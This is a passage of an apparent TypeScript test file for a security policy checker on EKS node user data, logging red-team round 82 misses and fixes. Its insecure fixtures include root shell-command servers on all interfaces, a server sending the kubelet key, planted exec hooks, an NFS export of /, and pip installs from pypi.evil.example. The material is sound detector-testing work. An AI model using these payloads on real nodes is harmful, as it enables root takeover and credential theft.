// Red-team round 82 (python, fresh eyes) on EKS NODE user data (AL2023: python3.9): Python programs and pip run as
// root (policy-pack/engine/userDataReaders/pythonCode.ts PROGRAM_DATA_PATHS, pythonWriteTargetRefusal,
// nodeReadsAsConfig; pipOptions.ts). Probed the neighbours of round 81's fixes (root-read configuration written by a
// program, a moved HOME, pip options that keep trust): root readers' directories outside PROGRAM_DATA_PATHS'
// exclusions and READ_BEFORE_WRITE (CDI specs in /etc/cdi and /run/cdi, systemd-sysext/confext images, tuned profiles,
// snmpd extend, salt/puppet/chef/ansible agents, New Relic/Datadog/Zabbix/NRPE agents, incron, smartd, WireGuard
// PostUp, OpenVPN up, dnsmasq dhcp-script, keepalived, xinetd, stunnel, nvidia-container-runtime, /run/initramfs/
// shutdown, portables, NFS exports); a program's data file that a later shell line runs, sources, installs, links or
// copies (bash/sh/./exec, run-parts, crontab FILE, systemctl link, cron lines, units, EnvironmentFile=, export $(...),
// cp into sysctl.d, sysctl -p, iptables-restore, nodeadm -c, eval of a program's output); writes through a directory
// link or bind mount user data makes; pip's environment in a unit or under a computed name; servers with an empty or
// None host (asyncio.start_server, socket.create_server, socketserver, wsgiref); distutils.spawn, os.posix_spawn;
// secure twins (data files read, archived or hashed; loopback and constant-answer servers; pip options that narrow
// nothing; --isolated under a moved HOME).
// Misses (42 insecure accepted, 9 secure refused), by class:
// - ROOT-READER-DIR (26 insecure): cdi-etc, cdi-run, cdi-var-run, sysext-var-lib, sysext-run, sysext-etc,
//   confext-var-lib, confext-run, tuned-profile, snmpd-extend, salt-minion, newrelic-exec, nvidia-ctk, datadog-check,
//   zabbix-userparam, incron, smartd-exec, wireguard-postup, openvpn-up, dnsmasq-script, keepalived-notify,
//   puppet-server, chef-client-rb, nrpe-command, run-initramfs-shutdown, portables (dev-py82-NAME-rt82p): got [];
//   PROGRAM_DATA_PATHS is a denylist of /etc/<x>/, /run/<x>/, /var/lib/<x>/. Fix: an allowlist (directories user
//   data made for the program), every other directory there fails closed.
// - PROGRAM-DATA-RUN (11 insecure): data-then-bash, data-then-source, data-then-cron, data-then-sh, data-then-exec,
//   data-run-parts, data-crontab-file, data-systemctl-link, data-cp-sysctl-d, data-export-env, cron-link-to-data:
//   got []; a write accepted under PROGRAM_DATA_PATHS is not recorded as changed, so a later shell line that runs,
//   sources, installs, copies or links the file takes it for the image's. Fix: every path a root program may write
//   is unknown content (view.changed) for every later reader.
// - ENV-NAMED-CONFIG (5 insecure): git-config-global-env, git-xdg-config, aws-config-file-env, kubeconfig-env-exec,
//   curl-home-curlrc: got []; round 81 follows a moved HOME only; a program's file that a later root command loads
//   through GIT_CONFIG_GLOBAL, XDG_CONFIG_HOME, AWS_CONFIG_FILE, KUBECONFIG or CURL_HOME is data. Fix: one table of
//   configuration-locating variables; a program's write below what one names is a configuration write.
// - PIP-PLAIN-OPTIONS (7 secure): root-user-action-space, progress-bar-space, prefer-binary, timeout-retries,
//   no-compile, pre, isolated-plain: options that change neither source nor target withdraw pip trust. Fix: an
//   allowlist by effect, both optparse spellings.
// - PIP-ISOLATED-HOME (1 secure): home-moved-isolated: a moved HOME withdraws trust although --isolated reads no user
//   configuration.
// - CWD-DATA-SHADOW (1 secure): data-json-load: -c in a directory where a program wrote state.json is refused as
//   possibly shadowing json.
// Not reported (README DECIDED rounds 58 and 69: the operator's downloads and package files are the operator's):
// tar -x -C /, rpm -i, dnf install, ctr images import, a wheel's .pth of a download a program fetched; an install
// from another index with no import (a later interpreter runs its .pth: same decision).
// Held: 26 of 68 insecure refused; 14 of 23 secure clean.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase, systemdUnit } from "./nodeBuilders";

const dev = devNodeCase;

/** What a refusal names (as round 81's file). */
const REFUSED =
    /serv|8001|9000|8080|kubernetes|tune\.py|srv|mnt|unread|not read|writes|cron|program|PYTHON|shell|run|pip|index|import|json|helper|plugin|command|sysctl|module|code|config|listen|0\.0\.0\.0/;

const EVIL = "https://pypi.evil.example/simple";

/** /opt/ops/tune.py (`lines`) run as root from /var/lib/ops; `after` shell lines then. */
const tune = (name: string, lines: string[], after: string[] = [], before: string[] = []) =>
    devNodeScript(name, [
        "mkdir -p /var/lib/ops /var/cache/ops /var/log/ops",
        ...before,
        ...heredocFile("/opt/ops/tune.py", lines),
        "cd /var/lib/ops && python3 /opt/ops/tune.py",
        ...after,
    ]);

/** A program writing `text` at `path` (Python docs "Built-in Functions" open(): mode 'w' writes). */
const writes = (path: string, text: string) => [
    "import os",
    `os.makedirs(os.path.dirname(${JSON.stringify(path)}), exist_ok=True)`,
    `with open(${JSON.stringify(path)}, "w") as f:`,
    `    f.write(${JSON.stringify(text)})`,
];

/** A script of shell lines after the ops directories are made. */
const sh = (name: string, lines: string[]) =>
    devNodeScript(name, ["mkdir -p /var/lib/ops /var/cache/ops /var/log/ops", ...lines]);

/** `lines`, then /opt/ops/run.py (importing tenacity) run as root. */
const thenImport = (name: string, lines: string[]) =>
    sh(name, [
        ...lines,
        ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
        "python3 /opt/ops/run.py",
    ]);

/**
 * What the planted commands run: a server of /etc/kubernetes (the kubelet's kubeconfig and its client key) on every
 * address (Python docs "http.server": --bind defaults to all interfaces), refused when user data runs it itself.
 */
const SHELL_LINE = "cd /etc/kubernetes && python3 -m http.server 8001";

const insecure: NodeCase[] = [
    // ===== A. root-read configuration directories a program writes =====
    // CDI spec (cncf-tags/container-device-interface SPEC.md: specs in /etc/cdi and /var/run/cdi; containerEdits
    // "hooks" run on the host as root by the runtime, "mounts" bind host paths into any container requesting the
    // device; read by containerd when enable_cdi is on, kubernetes-sigs/kind PR 3530): a pod naming the device gets /
    // mounted, or the hook runs as root.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/cdi/ops.yaml (CDI spec with a createRuntime hook)",
        tune(
            "dev-py82-cdi-etc-rt82p",
            writes(
                "/etc/cdi/ops.yaml",
                "cdiVersion: 0.6.0\nkind: ops.example/dev\ndevices:\n- name: x\n  containerEdits:\n    hooks:\n    - hookName: createRuntime\n      path: /var/lib/ops/hook\n",
            ),
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /run/cdi/ops.json (CDI's /var/run/cdi, a mount of /)",
        tune(
            "dev-py82-cdi-run-rt82p",
            writes(
                "/run/cdi/ops.json",
                '{"cdiVersion":"0.6.0","kind":"ops.example/dev","devices":[{"name":"x","containerEdits":{"mounts":[{"hostPath":"/","containerPath":"/host"}]}}]}',
            ),
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /var/run/cdi/ops.json",
        tune(
            "dev-py82-cdi-var-run-rt82p",
            writes(
                "/var/run/cdi/ops.json",
                '{"cdiVersion":"0.6.0","kind":"ops.example/dev","devices":[{"name":"x","containerEdits":{"mounts":[{"hostPath":"/","containerPath":"/host"}]}}]}',
            ),
        ),
        REFUSED,
    ),
    // systemd-sysext(8): extension images in /etc/extensions/, /run/extensions/, /var/lib/extensions/ are merged over
    // /usr and /opt by overlayfs (systemd-sysext.service at boot, `systemd-sysext refresh`): the image's binaries
    // replace the node's (kubelet, nodeadm) as root.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /var/lib/extensions/ops.raw",
        tune("dev-py82-sysext-var-lib-rt82p", writes("/var/lib/extensions/ops.raw", "IMAGE")),
        REFUSED,
    ),
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /run/extensions/ops.raw",
        tune("dev-py82-sysext-run-rt82p", writes("/run/extensions/ops.raw", "IMAGE")),
        REFUSED,
    ),
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/extensions/ops.raw",
        tune("dev-py82-sysext-etc-rt82p", writes("/etc/extensions/ops.raw", "IMAGE")),
        REFUSED,
    ),
    // systemd-confext (same page): /run/confexts/, /var/lib/confexts/ images are merged over /etc.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /var/lib/confexts/ops.raw",
        tune("dev-py82-confext-var-lib-rt82p", writes("/var/lib/confexts/ops.raw", "IMAGE")),
        REFUSED,
    ),
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /run/confexts/ops.raw",
        tune("dev-py82-confext-run-rt82p", writes("/run/confexts/ops.raw", "IMAGE")),
        REFUSED,
    ),
    // tuned.conf(5) / tuned-profiles: the `script` plugin's script= runs as root when tuned applies the profile.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/tuned/ops/tuned.conf ([script] plugin)",
        tune(
            "dev-py82-tuned-profile-rt82p",
            writes(
                "/etc/tuned/ops/tuned.conf",
                `[main]\ninclude=throughput-performance\n[script]\nscript=/var/lib/ops/s.sh\n`,
            ),
        ),
        REFUSED,
    ),
    // snmpd.conf(5) "extend NAME PROG ARGS": snmpd (root) runs PROG on a GET, from any host the community admits.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/snmp/snmpd.conf (extend sh -c)",
        tune(
            "dev-py82-snmpd-extend-rt82p",
            writes("/etc/snmp/snmpd.conf", `rocommunity public\nextend ops /bin/sh -c "${SHELL_LINE}"\n`),
        ),
        REFUSED,
    ),
    // Salt docs "Configuring the Salt Minion": minion.d/*.conf `master:` names the master whose jobs the root minion
    // runs.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/salt/minion.d/master.conf",
        tune("dev-py82-salt-minion-rt82p", writes("/etc/salt/minion.d/master.conf", "master: 203.0.113.7\n")),
        REFUSED,
    ),
    // Ansible docs "Ansible Configuration Settings": /etc/ansible/ansible.cfg, callback_plugins/library paths load
    // code.
    dev(
        "tune.py writes /etc/ansible/ansible.cfg (callback_plugins)",
        tune(
            "dev-py82-ansible-cfg-rt82p",
            writes("/etc/ansible/ansible.cfg", "[defaults]\ncallback_plugins = /var/lib/ops/plugins\n"),
            ["ansible-pull -U https://github.com/example/ops.git"],
        ),
        REFUSED,
    ),
    // New Relic docs "On-host integrations configuration": integrations.d `exec:` runs a command (the agent as root).
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/newrelic-infra/integrations.d/ops.yml (exec)",
        tune(
            "dev-py82-newrelic-exec-rt82p",
            writes(
                "/etc/newrelic-infra/integrations.d/ops.yml",
                `integrations:\n  - name: ops\n    exec: /bin/sh -c "${SHELL_LINE}"\n`,
            ),
        ),
        REFUSED,
    ),
    // NVIDIA container toolkit config.toml: [nvidia-container-cli] ldconfig / path are programs containerd's hook runs
    // as root for every GPU container.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/nvidia-container-runtime/config.toml (ldconfig path)",
        tune(
            "dev-py82-nvidia-ctk-rt82p",
            writes(
                "/etc/nvidia-container-runtime/config.toml",
                `[nvidia-container-cli]\nldconfig = "@/var/lib/ops/ld"\n`,
            ),
        ),
        REFUSED,
    ),
    // Datadog docs "Custom Agent Check": checks.d/*.py is Python the agent imports (its user reaches IMDS: node role).
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/datadog-agent/checks.d/ops.py",
        tune(
            "dev-py82-datadog-check-rt82p",
            writes("/etc/datadog-agent/checks.d/ops.py", "import os\nos.system('id')\n"),
        ),
        REFUSED,
    ),
    // Zabbix manual "User parameters": UserParameter=key,command runs the command on the server's request.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/zabbix/zabbix_agentd.d/ops.conf (UserParameter)",
        tune(
            "dev-py82-zabbix-userparam-rt82p",
            writes("/etc/zabbix/zabbix_agentd.d/ops.conf", "UserParameter=ops[*],$1\n"),
        ),
        REFUSED,
    ),
    // incrontab(5): /etc/incron.d tables run their command as root on file events.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/incron.d/ops",
        tune(
            "dev-py82-incron-rt82p",
            writes("/etc/incron.d/ops", `/var/log/ops IN_CLOSE_WRITE /bin/sh -c "${SHELL_LINE}"\n`),
        ),
        REFUSED,
    ),
    // smartd.conf(5) `-M exec PATH`: smartd (root) runs PATH.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/smartmontools/smartd.conf (-M exec)",
        tune(
            "dev-py82-smartd-exec-rt82p",
            writes("/etc/smartmontools/smartd.conf", "DEVICESCAN -m root -M exec /var/lib/ops/x\n"),
        ),
        REFUSED,
    ),
    // exports(5): /etc/exports.d/*.exports; rw,no_root_squash of / hands the node's files (kubelet's key) to clients.
    dev(
        "tune.py writes /etc/exports.d/ops.exports (/ rw,no_root_squash)",
        tune("dev-py82-nfs-exports-rt82p", writes("/etc/exports.d/ops.exports", "/ *(rw,no_root_squash)\n"), [
            "exportfs -ra",
        ]),
        REFUSED,
    ),
    // ===== B. a program's data file that a later line runs =====
    // bash(1): `bash FILE` runs FILE's commands (root).
    // Was a MISS (fixed in round 82): insecure accepted (got []): pythonWriteTargetRefusal accepts the write (PROGRAM_DATA_PATHS) and does not
    // record the path as changed, so the shell reader (rootReads.ts: the run/load/copy of an operand no user data line
    // wrote) takes the program's file for the image's. Fix (class): every path a root program may write is view.changed
    // (unknown content) for each later reader: a script run, `.`, exec, run-parts, crontab FILE, systemctl link, a cron
    // line, export $(...), cp/install into a root-read directory.
    dev(
        "tune.py writes /var/lib/ops/next.sh; bash /var/lib/ops/next.sh",
        tune("dev-py82-data-then-bash-rt82p", writes("/var/lib/ops/next.sh", SHELL_LINE), [
            "bash /var/lib/ops/next.sh",
        ]),
        REFUSED,
    ),
    // bash(1) `. filename`: read and executed in the current shell.
    // Was a MISS (fixed in round 82): insecure accepted (got []): pythonWriteTargetRefusal accepts the write (PROGRAM_DATA_PATHS) and does not
    // record the path as changed, so the shell reader (rootReads.ts: the run/load/copy of an operand no user data line
    // wrote) takes the program's file for the image's. Fix (class): every path a root program may write is view.changed
    // (unknown content) for each later reader: a script run, `.`, exec, run-parts, crontab FILE, systemctl link, a cron
    // line, export $(...), cp/install into a root-read directory.
    dev(
        "tune.py writes /var/cache/ops/env.sh; . /var/cache/ops/env.sh",
        tune("dev-py82-data-then-source-rt82p", writes("/var/cache/ops/env.sh", "export LD_PRELOAD=/tmp/x.so"), [
            ". /var/cache/ops/env.sh",
        ]),
        REFUSED,
    ),
    dev(
        "tune.py writes /var/lib/ops/gen.py; python3 /var/lib/ops/gen.py",
        tune("dev-py82-data-then-python-rt82p", writes("/var/lib/ops/gen.py", "import os\nos.system('id')\n"), [
            "python3 /var/lib/ops/gen.py",
        ]),
        REFUSED,
    ),
    // crontab(5): the user data's own cron line runs the program-written file as root every 5 minutes.
    // Was a MISS (fixed in round 82): insecure accepted (got []): pythonWriteTargetRefusal accepts the write (PROGRAM_DATA_PATHS) and does not
    // record the path as changed, so the shell reader (rootReads.ts: the run/load/copy of an operand no user data line
    // wrote) takes the program's file for the image's. Fix (class): every path a root program may write is view.changed
    // (unknown content) for each later reader: a script run, `.`, exec, run-parts, crontab FILE, systemctl link, a cron
    // line, export $(...), cp/install into a root-read directory.
    dev(
        "tune.py writes /var/lib/ops/job.sh; cron.d runs it",
        tune("dev-py82-data-then-cron-rt82p", writes("/var/lib/ops/job.sh", SHELL_LINE), [
            "echo '*/5 * * * * root /bin/sh /var/lib/ops/job.sh' > /etc/cron.d/ops",
        ]),
        REFUSED,
    ),
    // systemd.service(5) ExecStart=: the unit (user data's) runs the program-written file as root.
    dev(
        "tune.py writes /var/lib/ops/hook.py; a unit runs it",
        tune("dev-py82-data-then-unit-rt82p", writes("/var/lib/ops/hook.py", "import os\nos.system('id')\n"), [
            ...systemdUnit("ops-hook", ["Type=oneshot", "ExecStart=/usr/bin/python3 /var/lib/ops/hook.py"]),
        ]),
        REFUSED,
    ),
    // Python docs "sys.path": for -c the first entry is the cwd (''), so /var/lib/ops/json.py shadows the stdlib json.
    dev(
        "tune.py writes /var/lib/ops/json.py; cd /var/lib/ops && python3 -c 'import json'",
        tune("dev-py82-data-shadow-c-rt82p", writes("/var/lib/ops/json.py", "import os\nos.system('id')\n"), [
            "cd /var/lib/ops && python3 -c 'import json; print(json.dumps(1))'",
        ]),
        REFUSED,
    ),
    // pip docs "Requirements File Format": `--index-url` in the file; the program wrote it, the pack did not read it.
    dev(
        "tune.py writes /var/lib/ops/req.txt (--index-url evil); pip3 install -r; import",
        thenImport("dev-py82-data-req-file-rt82p", [
            ...heredocFile("/opt/ops/tune.py", writes("/var/lib/ops/req.txt", `--index-url ${EVIL}\ntenacity\n`)),
            "python3 /opt/ops/tune.py",
            "pip3 install -r /var/lib/ops/req.txt",
        ]),
        REFUSED,
    ),
    // pip docs "Configuration" (PIP_CONFIG_FILE): the program-written file names the index.
    dev(
        "tune.py writes /run/ops/pip.conf; PIP_CONFIG_FILE=/run/ops/pip.conf pip3 install; import",
        thenImport("dev-py82-data-pip-config-file-rt82p", [
            ...heredocFile("/opt/ops/tune.py", writes("/run/ops/pip.conf", `[global]\nindex-url = ${EVIL}\n`)),
            "python3 /opt/ops/tune.py",
            "PIP_CONFIG_FILE=/run/ops/pip.conf pip3 install tenacity",
        ]),
        REFUSED,
    ),
    // ===== C. servers on every interface =====
    // asyncio docs "loop.create_server": "If host is an empty string or None, all interfaces are assumed"; the handler
    // runs each line as a root shell command (any pod reaches the node IP).
    dev(
        "python3 -c: asyncio.start_server(handle, port=9000) runs lines with a shell",
        tune("dev-py82-asyncio-default-host-rt82p", [
            "import asyncio, subprocess",
            "async def handle(r, w):",
            "    line = await r.readline()",
            "    w.write(subprocess.run(line.decode(), shell=True, capture_output=True).stdout)",
            "    await w.drain()",
            "async def main():",
            "    s = await asyncio.start_server(handle, port=9000)",
            "    await s.serve_forever()",
            "asyncio.run(main())",
        ]),
        REFUSED,
    ),
    dev(
        "asyncio.start_server(handle, None, 9000) serves any file named",
        tune("dev-py82-asyncio-none-host-rt82p", [
            "import asyncio",
            "async def handle(r, w):",
            "    p = (await r.readline()).decode().strip()",
            "    w.write(open(p, 'rb').read())",
            "    await w.drain()",
            "async def main():",
            "    s = await asyncio.start_server(handle, None, 9000)",
            "    await s.serve_forever()",
            "asyncio.run(main())",
        ]),
        REFUSED,
    ),
    // Python docs "socket.create_server": address ("", port) binds all interfaces; it sends the kubelet's key.
    dev(
        "socket.create_server(('', 9000)) sends /var/lib/kubelet/pki/kubelet-client-current.pem",
        tune("dev-py82-create-server-empty-rt82p", [
            "import socket",
            "srv = socket.create_server(('', 9000))",
            "while True:",
            "    c, _ = srv.accept()",
            "    c.sendall(open('/var/lib/kubelet/pki/kubelet-client-current.pem', 'rb').read())",
            "    c.close()",
        ]),
        REFUSED,
    ),
    // Python docs "socketserver": server_address ('', port); the handler opens the path a client names.
    dev(
        "socketserver.ThreadingTCPServer(('', 9000)) file server",
        tune("dev-py82-socketserver-file-rt82p", [
            "import socketserver",
            "class H(socketserver.StreamRequestHandler):",
            "    def handle(self):",
            "        self.wfile.write(open(self.rfile.readline().strip(), 'rb').read())",
            "socketserver.ThreadingTCPServer(('', 9000), H).serve_forever()",
        ]),
        REFUSED,
    ),
    // Python docs "wsgiref.simple_server.make_server(host, port, app)": host '' is every interface; QUERY_STRING runs.
    dev(
        "wsgiref make_server('', 8080, app) runs QUERY_STRING",
        tune("dev-py82-wsgiref-shell-rt82p", [
            "import subprocess",
            "from wsgiref.simple_server import make_server",
            "def app(environ, start):",
            "    start('200 OK', [])",
            "    return [subprocess.check_output(environ['QUERY_STRING'], shell=True)]",
            "make_server('', 8080, app).serve_forever()",
        ]),
        REFUSED,
    ),
    // ===== D. runners =====
    // distutils.spawn.spawn(cmd) (Python 3.9 docs "distutils.spawn": "Run the command"): a root shell command.
    dev(
        "tune.py: distutils.spawn.spawn(['sh', '-c', ...])",
        tune("dev-py82-distutils-spawn-rt82p", [
            "from distutils.spawn import spawn",
            `spawn(["sh", "-c", ${JSON.stringify(SHELL_LINE)}])`,
        ]),
        REFUSED,
    ),
    // os.posix_spawn (Python docs "os.posix_spawn": "Wraps the posix_spawn() C library API").
    dev(
        "tune.py: os.posix_spawn('/bin/sh', ['sh','-c',...], os.environ)",
        tune("dev-py82-posix-spawn-rt82p", [
            "import os",
            `os.posix_spawn("/bin/sh", ["sh", "-c", ${JSON.stringify(SHELL_LINE)}], os.environ)`,
        ]),
        REFUSED,
    ),
    // ===== B2. more shells and loaders of a program's data file =====
    // POSIX sh: `sh FILE` reads commands from FILE.
    // Was a MISS (fixed in round 82): insecure accepted (got []): pythonWriteTargetRefusal accepts the write (PROGRAM_DATA_PATHS) and does not
    // record the path as changed, so the shell reader (rootReads.ts: the run/load/copy of an operand no user data line
    // wrote) takes the program's file for the image's. Fix (class): every path a root program may write is view.changed
    // (unknown content) for each later reader: a script run, `.`, exec, run-parts, crontab FILE, systemctl link, a cron
    // line, export $(...), cp/install into a root-read directory.
    dev(
        "tune.py writes /var/lib/ops/next.sh; sh /var/lib/ops/next.sh",
        tune("dev-py82-data-then-sh-rt82p", writes("/var/lib/ops/next.sh", SHELL_LINE), ["sh /var/lib/ops/next.sh"]),
        REFUSED,
    ),
    // Python docs "os.chmod"; execve(2): the file made executable then run by path.
    // Was a MISS (fixed in round 87): insecure accepted (got []): pythonWriteTargetRefusal accepts the write (PROGRAM_DATA_PATHS) and does not
